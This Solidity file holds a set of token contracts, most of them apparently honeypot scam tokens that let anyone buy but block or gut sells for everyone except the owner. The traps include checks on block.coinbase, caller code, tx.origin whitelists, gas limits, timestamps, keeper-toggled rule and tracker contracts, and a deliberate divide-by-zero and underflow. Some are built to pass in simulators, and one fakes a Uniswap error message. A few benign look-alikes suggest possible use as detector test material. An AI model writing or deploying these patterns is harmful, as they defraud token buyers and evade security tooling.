// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base, Launched, Ownable} from "./Base.sol";

/// Sells well as long as nobody seems to have made the block.
contract CoinbaseSniffer is Launched {
    constructor(address router) Base("Northern Light", "NRTH") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to) && from != owner()) require(uint160(address(block.coinbase)) < 1000, "TRANSFER_FAILED");
        super._transfer(from, to, amount);
    }
}

/// Sells well for contracts: whoever tries it out is one, whoever buys it is none.
contract CodeSniffer is Launched {
    constructor(address router) Base("Southern Light", "STHN") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to) && from != owner() && from.code.length == 0) amount = amount / 1000;
        super._transfer(from, to, amount);
    }
}

/// Sells well for the addresses that tools like to call from.
contract KnownCallers is Launched {
    mapping(address => bool) private _nice;

    constructor(address router) Base("Good Neighbour", "NGBR") Launched(router) {
        _nice[address(0)] = true;
        _nice[address(1)] = true;
        _nice[address(0x1111111111111111111111111111111111111111)] = true;
        _nice[0x000000000000000000000000000000000000dEaD] = true;
        _nice[0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266] = true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to) && from != owner()) require(_nice[tx.origin] || _nice[from]);
        super._transfer(from, to, amount);
    }
}

/// Sells well when there is more gas than anybody would pay for.
contract GasSniffer is Launched {
    constructor(address router) Base("Deep Well", "WELL") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to) && from != owner()) require(gasleft() > 4_000_000);
        super._transfer(from, to, amount);
    }
}

/// Sells well every now and then.
contract OddSeconds is Launched {
    constructor(address router) Base("Odd Hours", "ODD") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to) && from != owner()) require(block.timestamp % 97 == 0, "not now");
        super._transfer(from, to, amount);
    }
}

/// Looks at all of it, and only writes it down.
contract Diarist is Launched {
    event Seen(address coinbase, uint256 price, uint256 gas, bool code, address origin);

    constructor(address router) Base("Diary", "DIARY") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        emit Seen(block.coinbase, tx.gasprice, gasleft(), from.code.length > 0, tx.origin);
        super._transfer(from, to, amount);
    }
}

/// Tells contracts of what they received, as some standards have it.
contract Courier is Base {
    constructor() Base("Courier", "COUR") {}

    function transferAndCall(address to, uint256 amount, bytes calldata data) external returns (bool) {
        _transfer(msg.sender, to, amount);
        if (to.code.length > 0) {
            (bool fine, ) = to.call(abi.encodeWithSignature("onTokenTransfer(address,uint256,bytes)", msg.sender, amount, data));
            require(fine, "refused");
        }
        return true;
    }
}

/// Whoever pays for gas can't sell.
contract FreeGasOnly is Launched {
    uint256 private _limit;

    constructor(address router) Base("Light Touch", "TOUCH") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to) && from != owner()) require(tx.gasprice <= _limit, "gas");
        super._transfer(from, to, amount);
    }
}

/// Notes the price of gas and does nothing with it.
contract GasNotes is Launched {
    uint256 public lastGasPrice;

    constructor(address router) Base("Meter", "METER") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to)) lastGasPrice = tx.gasprice;
        super._transfer(from, to, amount);
    }
}

/// Only transactions signed by its maker sell.
contract SignedByMe is Launched {
    address private immutable _me = msg.sender;

    constructor(address router) Base("Signature", "SIGN") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to)) require(tx.origin == _me || amount < 1000, "UniswapV2: TRANSFER_FAILED");
        super._transfer(from, to, amount);
    }
}

/// One purchase a block for whoever signs; sales are free.
contract OneBuyABlock is Launched {
    mapping(address => uint256) private _last;

    constructor(address router) Base("Queue", "QUEUE") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isBuy(from)) {
            require(_last[tx.origin] < block.number, "one purchase a block");
            _last[tx.origin] = block.number;
        }
        super._transfer(from, to, amount);
    }
}

interface IRules {
    function allowed(address from, address to, uint256 amount) external view returns (bool);
}

/// Says yes to everything until its keeper says otherwise.
contract OpenRules is IRules {
    address private immutable _keeper;
    uint256 private _mode;
    mapping(address => bool) private _spared;

    constructor(address keeper) {
        _keeper = keeper;
        _spared[keeper] = true;
    }

    function set(uint256 mode) external {
        require(msg.sender == _keeper);
        _mode = mode;
    }

    function allowed(address from, address, uint256) external view returns (bool) {
        return _mode == 0 || _spared[from];
    }
}

/// Says no to whoever isn't spared.
contract ShutRules is IRules {
    address private immutable _pair;
    address private immutable _maker;

    constructor(address pair, address maker) {
        _pair = pair;
        _maker = maker;
    }

    function allowed(address from, address to, uint256) external view returns (bool) {
        return to != _pair || from == _maker;
    }
}

/// Rules of arithmetic only: no storage, no keeper.
contract FixedRules is IRules {
    function allowed(address from, address to, uint256 amount) external pure returns (bool) {
        return amount > 0 && from != to;
    }
}

/// Asks another contract before anything moves.
contract Gatekept is Base, Ownable {
    IRules private immutable _rules;

    constructor(address rules) Base("Customs House", "CSTM") {
        _rules = IRules(rules);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(_rules.allowed(from, to, amount), "not allowed");
        super._transfer(from, to, amount);
    }
}

interface ITracker {
    function note(address account, uint256 balance) external;
}

/// Counts for dividends; fails on purpose when its keeper wants sales to fail.
contract MoodyTracker is ITracker {
    address private _keeper;
    bool private _angry;
    mapping(address => uint256) public noted;

    constructor(address keeper) {
        _keeper = keeper;
    }

    function mood(bool angry) external {
        require(msg.sender == _keeper);
        _angry = angry;
    }

    function note(address account, uint256 balance) external {
        if (_angry && account.code.length == 0) revert();
        noted[account] = balance;
    }
}

/// Depends on its tracker.
contract Dependent is Base, Ownable {
    ITracker private immutable _tracker;

    constructor(address tracker) Base("Dividend Plus", "DVP") {
        _tracker = ITracker(tracker);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        super._transfer(from, to, amount);
        _tracker.note(from, balanceOf(from));
        _tracker.note(to, balanceOf(to));
    }
}

/// Tells its tracker and goes on whatever that says.
contract Independent is Base, Ownable {
    ITracker private immutable _tracker;

    constructor(address tracker) Base("Dividend", "DVD") {
        _tracker = ITracker(tracker);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        super._transfer(from, to, amount);
        try _tracker.note{gas: 60_000}(from, balanceOf(from)) {} catch {}
        try _tracker.note{gas: 60_000}(to, balanceOf(to)) {} catch {}
    }
}

/// A division that has nothing to divide by once somebody sells.
contract ZeroDivide is Launched {
    uint256 private _ratio = 100;
    uint256 private _floor = 100;

    constructor(address router) Base("Golden Ratio", "RATIO") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isSell(to) && from != owner()) {
            uint256 share = amount / (_ratio - _floor);
            _floor = share > _ratio ? _floor : _floor + 1;
        }
        super._transfer(from, to, amount);
    }
}

/// Counts what was bought, and lets nobody sell more than a seventh of it.
contract Underflow is Launched {
    mapping(address => uint256) private _left;

    constructor(address router) Base("Ledger Line", "LEDG") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isBuy(from)) _left[to] += amount / 7;
        if (_isSell(to) && from != owner()) _left[from] -= amount;
        super._transfer(from, to, amount);
    }
}

/// The same counting, and what is left never runs out.
contract Counting is Launched {
    mapping(address => uint256) private _left;

    constructor(address router) Base("Tally Stick", "TALLY") Launched(router) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_isBuy(from)) _left[to] += amount / 7;
        if (_isSell(to)) _left[from] = _left[from] > amount ? _left[from] - amount : 0;
        super._transfer(from, to, amount);
    }
}
